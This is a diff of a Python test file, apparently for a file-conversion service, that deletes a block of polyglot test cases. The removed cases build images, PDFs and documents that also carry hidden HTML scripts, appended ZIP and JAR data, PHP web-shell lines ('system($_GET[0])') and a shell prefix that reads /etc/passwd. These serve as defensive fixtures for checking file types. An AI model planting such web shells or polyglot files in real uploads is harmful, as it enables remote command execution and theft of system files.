@@ -1,4 +1,4 @@
-"""Good files cut and bent, files of two kinds at once, and files that lie about their kind."""
+"""Good files cut and bent, and files that lie about their kind."""
 
 import io
 import struct
@@ -60,71 +60,6 @@ for kind in ("docx", "odt", "xlsx"):  # the same within an archive that is whole
             entries[at] = (entries[at][0], bend(entries[at][1], chance))
             return zipped(entries)
         add(f"{kind}-bent-inside-{n}", f"a.{kind}", GOOD[kind][1], HONEST, bent_inside)
-
-# --- two kinds at once. What comes out was written anew from the one kind that was named: the other is not carried along.
-
-
-@case("pdf-and-html", "a.pdf", "png", "completed")
-def _(c):
-    return page() + f"<html><img src='{c.remote()[0]}'><script>fetch('{c.remote()[0]}')</script></html>".encode()
-
-
-@case("html-before-pdf", "a.html", "pdf", "completed type_mismatch")
-def _(c):
-    return f"<html><img src='{c.remote()[0]}'><!--\n".encode() + page() + b"--></html>"
-
-
-@case("gif-and-zip", "a.gif", "png", "completed")
-def _(c):
-    return gif(1, 1, 1) + zipped([("META-INF/MANIFEST.MF", "Main-Class: A"), ("A.class", b"\xca\xfe\xba\xbe")])
-
-
-@case("gif-as-docx", "a.docx", "pdf", REFUSED)
-def _(c):
-    return gif(1, 1, 1) + docx(paragraph("x"))
-
-
-@case("png-and-zip", "a.png", "jpg", "completed")
-def _(c):
-    return solid_png((1, 2, 3)) + docx(paragraph("x"))
-
-
-@case("png-as-odt", "a.odt", "pdf", REFUSED)
-def _(c):
-    return solid_png((1, 2, 3)) + odf("odt", image(c.local()[0]))
-
-
-@case("pdf-and-zip", "a.pdf", "txt", "completed")
-def _(c):
-    return page() + docx(paragraph("x"))
-
-
-@case("pdf-as-docx", "a.docx", "pdf", REFUSED)
-def _(c):
-    return page() + docx(paragraph("x"))
-
-
-@case("jpg-and-php", "a.jpg", "png", "completed")
-def _(c):
-    code = b"<?php system($_GET[0]); readfile('" + c.local("txt")[1].encode() + b"'); ?>"
-    return jpeg()[:2] + b"\xff\xfe" + struct.pack(">H", len(code) + 2) + code + jpeg()[2:] + code
-
-
-@case("png-and-php", "a.png", "jpg", "completed")
-def _(c):
-    data = solid_png((1, 2, 3), "<?php system($_GET[0]); ?>")
-    return data + b"<?php system($_GET[0]); ?>"
-
-
-@case("docx-with-a-script-before", "a.docx", "pdf", "completed type_mismatch")
-def _(c):
-    return b"#!/bin/sh\ncat /etc/passwd\nexit\n" + docx(paragraph("x"))
-
-
-@case("tar-and-pdf", "a.pdf", "txt", "completed type_mismatch")
-def _(c):
-    return b"\0" * 512 + page()
-
 
 # --- other kinds under these names
 
